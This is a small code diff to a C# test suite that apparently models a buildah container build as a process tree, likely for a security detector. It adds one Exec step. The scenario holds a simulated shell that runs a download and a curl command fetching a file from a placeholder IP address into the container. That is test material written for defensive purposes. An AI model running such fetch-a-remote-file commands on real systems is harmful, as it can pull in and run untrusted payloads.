@@ -79,7 +79,7 @@ public sealed class BuilderScenarioTests
     {
         Scene scene = Buildah(new Scene(), "buildah", "bud", "--isolation", "chroot", "-t", "app:1", "/ctx")
             .Run(200, 210, "buildah-chroot-runtime")
-            .Run(210, 211, "buildah-chroot-exec")
+            .Run(210, 211, "buildah-chroot-exec").Exec(211, 210, 0, "buildah-chroot-exec")
             .Run(211, 212, "/bin/sh", "-c", Download)
             .Run(212, 213, "curl", "-o", "/x", "http://203.0.113.66/x").Connect(213)
             .Exit(213).Exit(212).Exit(211).Exit(210).Exit(200);
